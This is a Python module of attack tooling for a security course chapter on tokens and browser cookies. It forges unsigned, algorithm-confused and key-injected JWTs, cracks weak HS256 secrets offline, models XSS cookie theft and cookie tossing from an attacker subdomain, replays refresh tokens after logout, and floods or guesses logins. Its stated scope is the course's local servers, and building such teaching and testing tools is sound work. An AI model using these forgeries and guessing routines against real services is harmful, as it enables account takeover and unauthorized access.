"""Attack tooling for chapter 06: forge, tamper, crack and inject tokens; play a browser for XSS and CSRF.

Everything here is what an attacker can do *without* the server's secret: rewrite a payload, mint
``alg: none`` tokens, sign HS256 with a public key, guess a weak HMAC secret offline, point a token's
header at a key of their own, and (through ``Browser``) read what a page's script can read, make a
browser send a cross-site request, or plant a cookie from a sibling subdomain (cookie tossing). Then
the attacks a security review of a "hardened" app tries: a refresh token copied before logout
(``refresh_after_logout``), a tossed refresh cookie (``toss_refresh_cookie``), a flood of logins
(``login_flood``, ``guess_passwords``, with ``HeldPasswordChecks`` counting the password checks that
run at once), and a shared cache that hands one user's answer to the next (``SharedCache``, a model
of RFC 9111's rules, not a real proxy). Use it only against the course's in-kernel servers on 127.0.0.1.

This module never imports ``helpers.vulnerable``: the tools work against any server, hardened or not.
"""

from __future__ import annotations

import base64
import hmac
import ipaddress
import json
import math
import random
import threading
import time
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, field
from http.cookies import CookieError, SimpleCookie
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import requests
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import padding, rsa

from . import DATA_DIR
from .clock import Clock, SystemClock
from .display import Table
from .tokens import b64url_encode
from .web import REFRESH_COOKIE, REFRESH_PATH  # the names the course app (and the naive one) use

__all__ = [
    "WORDLIST",
    "NONE_CASINGS",
    "segments",
    "unverified_claims",
    "tamper_claims",
    "sign_hs256",
    "alg_none_tokens",
    "confusion_token",
    "CrackResult",
    "load_wordlist",
    "crack_hs256",
    "guess_rate",
    "brute_force_years",
    "rsa_jwk",
    "jwks_document",
    "jwk_injection_token",
    "jku_injection_token",
    "kid_traversal_token",
    "LAX_ALLOWING_UNSAFE_SECONDS",
    "StoredCookie",
    "Browser",
    "xss_steal",
    "refresh_after_logout",
    "TossResult",
    "toss_refresh_cookie",
    "HEURISTICALLY_CACHEABLE",
    "CacheAnswer",
    "SharedCache",
    "HeldPasswordChecks",
    "FloodResult",
    "login_flood",
    "guess_passwords",
    "AttackLog",
    "status_verdict",
]

WORDLIST = DATA_DIR / "wordlist.txt"
NONE_CASINGS: tuple[str, ...] = ("none", "None", "NONE", "nOnE")
SECONDS_PER_YEAR = 365.25 * 24 * 3600
# Chromium's "Lax-allowing-unsafe": a cookie set WITHOUT a SameSite attribute is Lax, except that for its
# first two minutes it also rides a top-level cross-site POST (so sign-in flows that POST back keep working).
LAX_ALLOWING_UNSAFE_SECONDS = 120.0


# --- reading and rewriting tokens -----------------------------------------------------------------


def _b64_json(obj: dict[str, Any]) -> str:
    return b64url_encode(json.dumps(obj, separators=(",", ":")).encode())


def _b64_decode_lenient(segment: str) -> bytes:
    return base64.urlsafe_b64decode(segment + "=" * (-len(segment) % 4))


def segments(token: str) -> tuple[dict[str, Any], dict[str, Any], str]:
    """Split a JWT into (header, claims, signature segment) WITHOUT verifying anything, as an attacker reads it."""
    header_seg, payload_seg, signature = token.split(".")
    return json.loads(_b64_decode_lenient(header_seg)), json.loads(_b64_decode_lenient(payload_seg)), signature


def unverified_claims(token: str) -> dict[str, Any]:
    """The payload of a JWT, unverified: anyone holding a token can read it (it is encoded, not encrypted)."""
    return segments(token)[1]


def tamper_claims(token: str, **changes: Any) -> str:
    """The same token with ``changes`` written into its payload; header and signature are kept as they were."""
    header_seg, payload_seg, signature = token.split(".")
    claims = {**json.loads(_b64_decode_lenient(payload_seg)), **changes}
    return f"{header_seg}.{_b64_json(claims)}.{signature}"


def sign_hs256(claims: dict[str, Any], key: bytes, headers: dict[str, Any] | None = None) -> str:
    """An HS256 token over ``claims`` with any key at all (no minimum length: attackers don't follow RFC 7518)."""
    signing_input = f"{_b64_json({'alg': 'HS256', 'typ': 'JWT', **(headers or {})})}.{_b64_json(claims)}"
    return f"{signing_input}.{b64url_encode(hmac.digest(key, signing_input.encode(), 'sha256'))}"


def _sign_rs256(claims: dict[str, Any], private_key: rsa.RSAPrivateKey, headers: dict[str, Any]) -> str:
    signing_input = f"{_b64_json({'alg': 'RS256', 'typ': 'JWT', **headers})}.{_b64_json(claims)}"
    signature = private_key.sign(signing_input.encode(), padding.PKCS1v15(), hashes.SHA256())
    return f"{signing_input}.{b64url_encode(signature)}"


def alg_none_tokens(claims: dict[str, Any], casings: Sequence[str] = NONE_CASINGS) -> list[str]:
    """Unsigned tokens (``alg`` = each casing of "none", empty signature) carrying ``claims``."""
    return [f"{_b64_json({'alg': alg, 'typ': 'JWT'})}.{_b64_json(claims)}." for alg in casings]


def confusion_token(claims: dict[str, Any], public_pem: bytes) -> str:
    """Algorithm confusion: an HS256 token whose HMAC secret is the server's *public* key PEM, as downloaded."""
    return sign_hs256(claims, public_pem)


# --- cracking a weak HS256 secret offline -----------------------------------------------------------


@dataclass(frozen=True)
class CrackResult:
    """The secret found (None if the wordlist missed it), guesses tried, and the time they took."""

    secret: str | None
    guesses: int
    seconds: float

    @property
    def rate(self) -> float:
        """Guesses per second (0 if no time was measured)."""
        return self.guesses / self.seconds if self.seconds > 0 else 0.0


def load_wordlist(path: str | Path = WORDLIST) -> list[str]:
    """The words of a wordlist file, one per line, blank lines and ``#`` comments skipped."""
    lines = Path(path).read_text(encoding="utf-8").splitlines()
    return [line for line in lines if line and not line.startswith("#")]


def _split_for_cracking(token: str) -> tuple[bytes, bytes]:
    header_seg, payload_seg, signature_seg = token.split(".")
    return f"{header_seg}.{payload_seg}".encode(), _b64_decode_lenient(signature_seg)


def crack_hs256(token: str, words: Iterable[str]) -> CrackResult:
    """Try each word as the HMAC-SHA256 secret of one captured token, offline: no request reaches the server."""
    signing_input, signature = _split_for_cracking(token)
    guesses, start = 0, time.perf_counter()
    for word in words:
        guesses += 1
        if hmac.compare_digest(hmac.digest(word.encode(), signing_input, "sha256"), signature):
            return CrackResult(word, guesses, time.perf_counter() - start)
    return CrackResult(None, guesses, time.perf_counter() - start)


def guess_rate(token: str, guesses: int, rng: random.Random) -> float:
    """Measure guesses per second on this machine: ``guesses`` random 32-byte secrets tried against ``token``."""
    signing_input, signature = _split_for_cracking(token)
    keys = [rng.randbytes(32) for _ in range(guesses)]
    start = time.perf_counter()
    hits = sum(hmac.digest(key, signing_input, "sha256") == signature for key in keys)
    elapsed = time.perf_counter() - start
    if hits:
        raise AssertionError("a random 256-bit key matched: impossible in practice")
    return guesses / elapsed if elapsed > 0 else math.inf


def brute_force_years(bits: int, rate: float) -> float:
    """Expected years to find a random ``bits``-bit secret at ``rate`` guesses/s (half the key space, on average)."""
    return 2.0 ** (bits - 1) / rate / SECONDS_PER_YEAR


# --- key injection: jwk, jku, kid -------------------------------------------------------------------


def rsa_jwk(public_key: rsa.RSAPublicKey, kid: str | None = None) -> dict[str, str]:
    """The public JWK (RFC 7517) of an RSA key: ``kty``, ``n``, ``e`` (and ``kid``)."""
    numbers = public_key.public_numbers()
    jwk = {
        "kty": "RSA",
        "n": b64url_encode(numbers.n.to_bytes((numbers.n.bit_length() + 7) // 8, "big")),
        "e": b64url_encode(numbers.e.to_bytes((numbers.e.bit_length() + 7) // 8, "big")),
    }
    return {**jwk, "kid": kid} if kid else jwk


def jwks_document(public_key: rsa.RSAPublicKey, kid: str = "attacker") -> dict[str, list[dict[str, str]]]:
    """A JWKS document ``{"keys": [jwk]}``, what an attacker hosts for a ``jku`` header to point at."""
    return {"keys": [rsa_jwk(public_key, kid)]}


def jwk_injection_token(claims: dict[str, Any], attacker_key: rsa.RSAPrivateKey) -> str:
    """RS256 token signed with the attacker's key, which it carries in its own ``jwk`` header."""
    return _sign_rs256(claims, attacker_key, {"jwk": rsa_jwk(attacker_key.public_key())})


def jku_injection_token(claims: dict[str, Any], attacker_key: rsa.RSAPrivateKey, jku: str) -> str:
    """RS256 token signed with the attacker's key, whose ``jku`` header points at the attacker's JWKS URL."""
    return _sign_rs256(claims, attacker_key, {"jku": jku, "kid": "attacker"})


def kid_traversal_token(claims: dict[str, Any], kid: str, known_key: bytes) -> str:
    """HS256 token whose ``kid`` walks out of the key directory to a file whose bytes the attacker knows."""
    return sign_hs256(claims, known_key, {"kid": kid})


# --- a small browser: cookies by the rules, storage a script can read -------------------------------


@dataclass
class StoredCookie:
    """A cookie as a browser keeps it: value and the attributes that decide who may see or send it."""

    name: str
    value: str
    host: str
    path: str = "/"
    secure: bool = False
    httponly: bool = False
    samesite: str = "Lax"  # what current browsers assume when the attribute is missing
    host_only: bool = True  # False: set with a Domain attribute, so sibling subdomains share it
    created: int = 0  # order of creation: among cookies with equally long paths, the older is sent first
    samesite_given: bool = True  # False: Set-Cookie had no SameSite, so "Lax" is the browser's default
    set_at: float = 0.0  # clock time it was stored (the default-Lax cookie's two-minute POST window counts from it)


def _site(url: str) -> tuple[str, str]:
    """(scheme, host) of a URL: the course's stand-in for a site (no public-suffix list needed for IPs and .example)."""
    parts = urlsplit(url)
    return parts.scheme, (parts.hostname or "")


def _origin(url: str) -> str:
    parts = urlsplit(url)
    return f"{parts.scheme}://{parts.netloc}"


def _secure_origin(url: str) -> bool:
    """https, or http to a loopback host: browsers (Chromium, Firefox) let both set and receive ``Secure`` cookies."""
    scheme, host = _site(url)
    if scheme == "https" or host == "localhost" or host.endswith(".localhost"):
        return True
    try:
        return scheme == "http" and ipaddress.ip_address(host).is_loopback
    except ValueError:
        return False


def _prefix_allows(cookie: StoredCookie, domain: str) -> bool:
    """The name prefix rules (RFC 6265bis §4.1.3): ``__Secure-`` needs Secure; ``__Host-`` also Path=/ and no Domain."""
    if cookie.name.startswith("__Secure-") and not cookie.secure:
        return False
    return not cookie.name.startswith("__Host-") or cookie.secure and cookie.path == "/" and not domain


class Browser:
    """Just enough of a browser: a cookie jar obeying Secure, Path, HttpOnly and SameSite, plus ``local_storage``
    and ``memory`` (the page's JavaScript variables), sending requests through a ``requests.Session``.

    ``requests`` alone ignores HttpOnly and SameSite; this class applies them, so a demo can show what a real
    browser would attach to a cross-site request and what a page's script could read.
    """

    def __init__(
        self, transport: requests.Session, *, block_third_party_cookies: bool = False, clock: Clock | None = None
    ) -> None:
        self.transport = transport
        self.clock = clock or SystemClock()  # only the age of a cookie set without SameSite depends on it
        # Chromium's default in new and incognito profiles: a cross-site fetch or iframe carries no cookie at
        # all, not even SameSite=None (a top-level navigation or form still follows SameSite alone).
        self.block_third_party_cookies = block_third_party_cookies
        # Keyed like a browser's jar: a host-only cookie and a Domain cookie of the same name and path
        # are two cookies, and both are sent.
        self.cookies: dict[tuple[str, str, str, bool], StoredCookie] = {}
        self._created = 0
        self.local_storage: dict[str, str] = {}  # per origin in a real browser; one page here
        self.memory: dict[str, str] = {}  # JavaScript variables of the open page

    def receive(self, url: str, set_cookie_headers: Iterable[str]) -> None:
        """Store (or delete) the cookies of a response from ``url``, attribute by attribute.

        As browsers do, a ``Secure`` cookie from an insecure origin and a cookie that breaks its name prefix are ignored.
        """
        _, host = _site(url)
        for header in set_cookie_headers:
            parsed = SimpleCookie()
            try:
                parsed.load(header)
            except CookieError:
                continue
            for name, morsel in parsed.items():
                cookie = StoredCookie(
                    name,
                    morsel.value,
                    host,
                    morsel["path"] or "/",
                    bool(morsel["secure"]),
                    bool(morsel["httponly"]),
                    (morsel["samesite"] or "Lax").capitalize(),
                    samesite_given=bool(morsel["samesite"]),
                    set_at=self.clock.now(),
                )
                if cookie.secure and not _secure_origin(url) or not _prefix_allows(cookie, morsel["domain"]):
                    continue
                if morsel["max-age"] in ("0", "-1"):
                    self.cookies.pop(self._key(cookie), None)
                else:
                    self._store(cookie)

    @staticmethod
    def _key(cookie: StoredCookie) -> tuple[str, str, str, bool]:
        return cookie.host, cookie.path, cookie.name, cookie.host_only

    def _store(self, cookie: StoredCookie) -> None:
        old = self.cookies.get(self._key(cookie))
        if old is not None:  # RFC 6265 §5.3 step 11: a replaced cookie keeps its creation time
            cookie.created, cookie.set_at = old.created, old.set_at
        else:
            self._created += 1
            cookie.created = self._created
        self.cookies[self._key(cookie)] = cookie

    def plant_from_sibling(self, url: str, name: str, value: str, path: str = "/") -> bool:
        """Store the cookie a page on a sibling subdomain sets with ``Domain=<parent>`` (cookie tossing); False if refused.

        Our servers live on 127.0.0.1, which has no subdomains, so this stands in for the page on
        ``evil.site.example`` writing ``document.cookie = "name=value; Domain=site.example; Path=path; Secure"``
        while the victim's app is ``app.site.example`` (= ``url``). Browsers refuse a ``__Host-`` cookie that
        names a Domain or a Path other than ``/`` (RFC 6265bis §4.1.3.2), so those cannot be planted.
        """
        if name.startswith("__Host-"):
            return False
        _, host = _site(url)
        self._store(StoredCookie(name, value, host, path, secure=True, httponly=False, samesite="Lax", host_only=False))
        return True

    def cookie_pairs(
        self, url: str, initiator: str | None = None, method: str = "GET", top_level: bool = False
    ) -> list[tuple[str, str]]:
        """Every (name, value) the browser sends to ``url``, in the Cookie header's order: longer paths first, then older.

        A name can appear twice (a host-only cookie and a planted Domain cookie, or two paths); servers
        that read "the" cookie by name get the first one (RFC 6265 §5.4 step 2 gives the order).
        """
        scheme, host = _site(url)
        cross_site = initiator is not None and _site(initiator) != (scheme, host)
        path = urlsplit(url).path or "/"
        sent = []
        for cookie in sorted(self.cookies.values(), key=lambda c: (-len(c.path), c.created)):
            if cookie.host != host or not (path == cookie.path or path.startswith(cookie.path.rstrip("/") + "/")):
                continue
            if cookie.secure and not _secure_origin(url):
                continue
            if cross_site and not top_level and self.block_third_party_cookies:
                continue
            if cross_site and not (
                cookie.samesite == "None"
                and cookie.secure
                or cookie.samesite == "Lax"
                and top_level
                and method == "GET"
                or self._lax_allowing_unsafe(cookie, top_level, method)
            ):
                continue
            sent.append((cookie.name, cookie.value))
        return sent

    def _lax_allowing_unsafe(self, cookie: StoredCookie, top_level: bool, method: str) -> bool:
        """A default-Lax cookie (no SameSite given) younger than two minutes rides a top-level cross-site POST too."""
        return (
            not cookie.samesite_given
            and top_level
            and method == "POST"
            and self.clock.now() - cookie.set_at < LAX_ALLOWING_UNSAFE_SECONDS
        )

    def cookies_for(
        self, url: str, initiator: str | None = None, method: str = "GET", top_level: bool = False
    ) -> dict[str, str]:
        """The cookies this browser attaches to a request to ``url`` started by a page at ``initiator`` (None: typed by the user).

        One value per name, the first sent (what a server reading the cookie by name sees); ``cookie_pairs`` lists them all.
        """
        sent: dict[str, str] = {}
        for name, value in self.cookie_pairs(url, initiator, method, top_level):
            sent.setdefault(name, value)
        return sent

    def request(
        self, method: str, url: str, *, initiator: str | None = None, top_level: bool = False, **kwargs: Any
    ) -> requests.Response:
        """Send a request the way a browser would: its cookies by the rules, plus ``Origin`` and ``Sec-Fetch-Site``."""
        headers = dict(kwargs.pop("headers", None) or {})
        jar = self.cookie_pairs(url, initiator, method.upper(), top_level)
        if jar:
            headers["Cookie"] = "; ".join(f"{name}={value}" for name, value in jar)
        if initiator is None:
            headers["Sec-Fetch-Site"] = "none"
        else:
            same_origin = _origin(initiator) == _origin(url)
            headers["Sec-Fetch-Site"] = (
                "same-origin" if same_origin else "cross-site" if _site(initiator) != _site(url) else "same-site"
            )
            if method.upper() != "GET":
                headers["Origin"] = _origin(initiator)
        self.transport.cookies.clear()  # the transport's own jar must not add cookies behind our rules
        response = self.transport.request(method, url, headers=headers, **kwargs)
        self.transport.cookies.clear()
        self.receive(url, response.raw.headers.getlist("Set-Cookie"))
        return response

    def document_cookie(self, page_url: str) -> str:
        """What ``document.cookie`` shows a script on ``page_url``: same host, matching path, never HttpOnly."""
        _, host = _site(page_url)
        visible = [c for c in self.cookies.values() if c.host == host and not c.httponly]
        return "; ".join(f"{c.name}={c.value}" for c in sorted(visible, key=lambda c: c.name))


def xss_steal(browser: Browser, page_url: str) -> dict[str, str]:
    """What an injected script on ``page_url`` can read and send home: localStorage, document.cookie, page variables."""
    loot = {f"localStorage.{k}": v for k, v in sorted(browser.local_storage.items())}
    cookies = browser.document_cookie(page_url)
    if cookies:
        loot["document.cookie"] = cookies
    loot.update({f"page variable {k}": v for k, v in sorted(browser.memory.items())})
    return loot


# --- after logout, and with a planted cookie: what a login's refresh family still does ---------------


def refresh_after_logout(
    url: str, make_client: Callable[[], requests.Session], credentials: dict[str, str], rounds: int = 3
) -> tuple[dict[str, Any], list[int]]:
    """Log in, let a thief copy the refresh cookie, log out at ``/logout`` with the access token; the thief refreshes.

    Returns the logout's JSON answer and the status of each of the thief's ``rounds`` ``POST /refresh``.
    """
    victim = make_client()
    token = victim.post(url + "/login", json=credentials).json()["access_token"]
    thief = make_client()
    thief.cookies.update(victim.cookies)  # copied before logout: malware, a synced profile, a proxy log
    logout = victim.post(url + "/logout", headers={"Authorization": f"Bearer {token}"}).json()
    return logout, [thief.post(url + REFRESH_PATH, json={}).status_code for _ in range(rounds)]


@dataclass(frozen=True)
class TossResult:
    """What the victim's browser got after a sibling subdomain planted the attacker's refresh cookie."""

    refresh_status: int  # the victim's POST /refresh
    refreshed_as: str | None  # whose access token it got, if any
    logout_statuses: tuple[int, int]  # the victim's POST /refresh/logout, then POST /logout with its access token
    victim_family_alive: bool  # after both logouts, the victim's own refresh token still rotates, presented alone
    attacker_family_alive: bool


def _still_rotates(url: str, make_client: Callable[[], requests.Session], token: str) -> bool:
    probe = make_client()
    probe.cookies.set(REFRESH_COOKIE, token, domain=_site(url)[1], path=REFRESH_PATH)
    return probe.post(url + REFRESH_PATH, json={}).status_code == 200


def toss_refresh_cookie(
    url: str, make_client: Callable[[], requests.Session], victim: dict[str, str], attacker: dict[str, str]
) -> TossResult:
    """Cookie tossing: the attacker's refresh cookie is planted in the victim's browser, then the victim logs in and out.

    The attacker logs in to their own account, plants that refresh cookie from a sibling subdomain
    (``Browser.plant_from_sibling``, ``Path=/refresh``), and waits; the victim logs in, refreshes, and logs
    out twice: at ``/refresh/logout`` (where the refresh cookies go) and at ``/logout`` with the access token
    from its login. Afterwards each family is probed with its own token alone.
    """
    own = make_client()
    own.post(url + "/login", json=attacker)
    planted = own.cookies.get(REFRESH_COOKIE)
    if planted is None:
        raise RuntimeError(f"the attacker's login at {url} set no {REFRESH_COOKIE} cookie")
    browser = Browser(make_client())
    browser.plant_from_sibling(url, REFRESH_COOKIE, planted, path=REFRESH_PATH)
    login = browser.request("POST", url + "/login", json=victim).json()
    _, host = _site(url)
    victims_own = browser.cookies[(host, REFRESH_PATH, REFRESH_COOKIE, True)].value
    refreshed = browser.request("POST", url + REFRESH_PATH, json={})
    body = refreshed.json() if refreshed.ok else {}
    token = body.get("access_token")
    refreshed_as = unverified_claims(token).get("sub") if isinstance(token, str) else None
    logouts = (
        browser.request("POST", url + REFRESH_PATH + "/logout").status_code,
        browser.request(
            "POST", url + "/logout", headers={"Authorization": f"Bearer {login['access_token']}"}
        ).status_code,
    )
    # The rotated copy, if the refresh went through on the planted token, is the attacker's now.
    attacker_token = browser.cookies.get((host, REFRESH_PATH, REFRESH_COOKIE, False))
    return TossResult(
        refreshed.status_code,
        refreshed_as,
        logouts,
        _still_rotates(url, make_client, victims_own),
        _still_rotates(url, make_client, attacker_token.value if attacker_token else planted),
    )


# --- a shared cache, modelled: what a CDN or reverse proxy may store and hand to the next user -------

# RFC 9111 §4.2.2 (via RFC 9110 §15.1): statuses a cache may store without explicit freshness.
HEURISTICALLY_CACHEABLE = frozenset({200, 203, 204, 206, 300, 301, 308, 404, 405, 410, 414, 501})


def _directives(value: str) -> dict[str, str | None]:
    """``Cache-Control: max-age=60, private`` -> ``{"max-age": "60", "private": None}`` (names lower-cased)."""
    found: dict[str, str | None] = {}
    for part in value.split(","):
        name, _, argument = part.strip().partition("=")
        if name:
            found[name.lower()] = argument.strip('"') if argument else None
    return found


def _seconds(argument: str | None) -> float | None:
    return float(argument) if argument is not None and argument.isdigit() else None


@dataclass(frozen=True)
class CacheAnswer:
    """What the cache handed back: status, parsed JSON body, and whether it came from the cache or the origin."""

    status: int
    body: Any
    from_cache: bool
    stored: bool  # True if this answer is now in the cache for the next request
    cache_control: str | None  # the origin's Cache-Control header on the stored or fetched response


@dataclass
class _Entry:
    status: int
    body: Any
    cache_control: str | None
    vary: dict[str, str | None]  # request headers named by Vary, as the storing request sent them
    expires_at: float


class SharedCache:
    """A MODEL of a shared HTTP cache (a CDN or reverse proxy in front of the app), applying RFC 9111's rules.

    Not a proxy: ``get(url, headers)`` asks the origin through ``transport`` on a miss and decides, by the
    rules below, whether to keep the answer for the next request to the same URL, from anyone:

    - store only a GET whose response is not marked ``no-store`` or ``private`` (§3, §5.2.2.3, §5.2.2.7);
    - never store a response to a request with ``Authorization`` unless the response says ``public``,
      ``s-maxage`` or ``must-revalidate`` (§3.5); a ``Cookie`` header earns no such protection;
    - freshness from ``s-maxage``, then ``max-age`` (§4.2.1); with neither, a status listed in
      ``HEURISTICALLY_CACHEABLE`` gets ``heuristic_ttl`` seconds (§4.2.2 lets a cache choose one; CDNs
      ship default TTLs); ``no-cache`` means "revalidate first", modelled as never reused;
    - the cache key is the URL plus the request headers the response's ``Vary`` names; ``Vary: *`` is
      never reused (§4.1).

    Real caches add their own rules (many skip responses that set cookies); this one applies only the RFC's.
    """

    def __init__(self, transport: requests.Session, clock: Clock, heuristic_ttl: float = 60.0) -> None:
        self.transport = transport
        self.clock = clock
        self.heuristic_ttl = heuristic_ttl
        self._entries: dict[str, _Entry] = {}

    def _lifetime(self, response: requests.Response, request_headers: dict[str, str]) -> float | None:
        """Seconds the response may be reused for, or None if a shared cache must not store it."""
        control = _directives(response.headers.get("Cache-Control", ""))
        if "no-store" in control or "private" in control or response.headers.get("Vary", "").strip() == "*":
            return None
        if "authorization" in {name.lower() for name in request_headers} and not (
            {"public", "s-maxage", "must-revalidate"} & control.keys()
        ):
            return None
        explicit = _seconds(control.get("s-maxage")) if "s-maxage" in control else _seconds(control.get("max-age"))
        if explicit is not None:
            return explicit
        if "public" in control or response.status_code in HEURISTICALLY_CACHEABLE:
            return self.heuristic_ttl
        return None

    @staticmethod
    def _header_values(names: Iterable[str], request_headers: dict[str, str]) -> dict[str, str | None]:
        """The request's value (or None) of each header name, compared case-insensitively."""
        lowered = {name.lower(): value for name, value in request_headers.items()}
        return {name: lowered.get(name) for name in names}

    def get(self, url: str, headers: dict[str, str] | None = None) -> CacheAnswer:
        """GET ``url`` through the cache, as the client sending ``headers`` (its Cookie, Authorization...)."""
        headers = dict(headers or {})
        entry = self._entries.get(url)
        if (
            entry is not None
            and entry.expires_at > self.clock.now()
            and self._header_values(entry.vary, headers) == entry.vary
        ):
            return CacheAnswer(
                entry.status, entry.body, from_cache=True, stored=True, cache_control=entry.cache_control
            )
        self.transport.cookies.clear()  # only the headers given travel, never a jar of the cache's own
        response = self.transport.get(url, headers=headers)
        body = (
            response.json()
            if response.headers.get("Content-Type", "").startswith("application/json")
            else response.text
        )
        lifetime = self._lifetime(response, headers)
        header = response.headers.get("Cache-Control")
        if lifetime is None or lifetime <= 0 or "no-cache" in _directives(header or ""):
            self._entries.pop(url, None)
            return CacheAnswer(response.status_code, body, from_cache=False, stored=False, cache_control=header)
        varied = [name.strip().lower() for name in response.headers.get("Vary", "").split(",") if name.strip()]
        self._entries[url] = _Entry(
            response.status_code, body, header, self._header_values(varied, headers), self.clock.now() + lifetime
        )
        return CacheAnswer(response.status_code, body, from_cache=False, stored=True, cache_control=header)

    def __len__(self) -> int:
        return len(self._entries)


# --- a login flood: many password checks at once ------------------------------------------------------


class HeldPasswordChecks:
    """Wraps a ``UserDirectory`` so every password check waits at a gate; counts how many are held at once.

    A flood test needs to know how many scrypt computations a server would run *at the same moment*.
    Cheap demo hashes finish too fast to overlap reliably, so each check waits here until ``release()``:
    then the peak is exact on any machine, however loaded. Everything else is the wrapped directory's.
    """

    def __init__(self, users: Any) -> None:
        self._users = users
        self._condition = threading.Condition()
        self._released = False
        self.inside = 0
        self.peak = 0
        self.checks = 0

    def authenticate(self, username: str, password: str) -> Any:
        """The wrapped directory's check, once the gate is open; counted while it waits."""
        with self._condition:
            self.inside += 1
            self.checks += 1
            self.peak = max(self.peak, self.inside)
            self._condition.notify_all()
            self._condition.wait_for(lambda: self._released, timeout=30)
        try:
            return self._users.authenticate(username, password)
        finally:
            with self._condition:
                self.inside -= 1

    def wait_until(self, predicate: Callable[[], bool], timeout: float = 30) -> bool:
        """Block until ``predicate()`` is true (re-checked whenever a check arrives, and every 10 ms)."""
        deadline = time.monotonic() + timeout
        with self._condition:
            while not predicate():
                remaining = deadline - time.monotonic()
                if remaining <= 0:
                    return False
                self._condition.wait(min(remaining, 0.01))
        return True

    def release(self) -> None:
        """Open the gate: every held check, and every later one, goes through."""
        with self._condition:
            self._released = True
            self._condition.notify_all()

    def __getattr__(self, name: str) -> Any:  # get, subscribe, set_role...: the wrapped directory's own
        return getattr(self._users, name)


@dataclass(frozen=True)
class FloodResult:
    """The answers to one burst of simultaneous logins and how many password checks ran at once."""

    statuses: tuple[int, ...]
    retry_after: tuple[str | None, ...]  # each answer's Retry-After header
    peak_checks: int  # password checks in progress at the same moment (held at the gate)

    def count(self, status: int) -> int:
        """How many answers had this status."""
        return self.statuses.count(status)


def login_flood(
    url: str,
    make_client: Callable[[], requests.Session],
    bodies: Sequence[dict[str, str]],
    gate: HeldPasswordChecks,
    timeout: float = 30,
) -> FloodResult:
    """POST every body to ``url + "/login"`` at once; release the gate once each request is held or answered."""
    answers: list[requests.Response | None] = [None] * len(bodies)
    failures: list[BaseException] = []

    def send(index: int, client: requests.Session) -> None:
        try:
            answers[index] = client.post(url + "/login", json=bodies[index], timeout=timeout)
        except Exception as exc:  # reported below, in the caller's thread
            failures.append(exc)

    threads = [threading.Thread(target=send, args=(i, make_client()), daemon=True) for i in range(len(bodies))]
    for thread in threads:
        thread.start()
    # Nothing is released until every request is either waiting at the gate or answered (refused
    # before any hashing): the peak then counts all the checks the server let start at once.
    gate.wait_until(lambda: gate.inside + sum(a is not None for a in answers) + len(failures) >= len(bodies), timeout)
    peak = gate.peak
    gate.release()
    for thread in threads:
        thread.join(timeout)
    if failures:
        raise failures[0]
    done = [a for a in answers if a is not None]
    if len(done) != len(bodies):
        raise TimeoutError(f"{len(bodies) - len(done)} of {len(bodies)} logins got no answer within {timeout} s")
    return FloodResult(tuple(a.status_code for a in done), tuple(a.headers.get("Retry-After") for a in done), peak)


def guess_passwords(
    client: requests.Session, url: str, username: str, guesses: Iterable[str]
) -> list[tuple[int, str | None]]:
    """Try each guess as ``username``'s password at ``url + "/login"``, one after another: (status, Retry-After) each."""
    answers = []
    for guess in guesses:
        answer = client.post(url + "/login", json={"username": username, "password": guess})
        answers.append((answer.status_code, answer.headers.get("Retry-After")))
    return answers


# --- the summary table -------------------------------------------------------------------------------


@dataclass
class AttackLog:
    """Outcomes recorded during a run (attack × target → verdict), printed as one table at the end."""

    targets: Sequence[str] = ("naive", "helpers sessions", "helpers JWT")
    _rows: dict[str, dict[str, str]] = field(default_factory=dict)

    def record(self, attack: str, target: str, verdict: str) -> None:
        """Remember ``verdict`` (e.g. "accepted", "rejected") for ``attack`` on ``target``."""
        if target not in self.targets:
            raise ValueError(f"unknown target {target!r}; targets are {list(self.targets)}")
        self._rows.setdefault(attack, {})[target] = verdict

    def verdict(self, attack: str, target: str) -> str:
        """The recorded verdict, or "-" if none was recorded."""
        return self._rows.get(attack, {}).get(target, "-")

    def table(self) -> Table:
        """One row per attack in the order first recorded, one column per target."""
        result = Table(["attack", *self.targets])
        for attack, verdicts in self._rows.items():
            result.add(attack, *(verdicts.get(target, "-") for target in self.targets))
        return result


def status_verdict(status: int) -> str:
    """Score an attack request by its status: "accepted" for a 2xx answer, "rejected" otherwise."""
    return "accepted" if 200 <= status < 300 else "rejected"
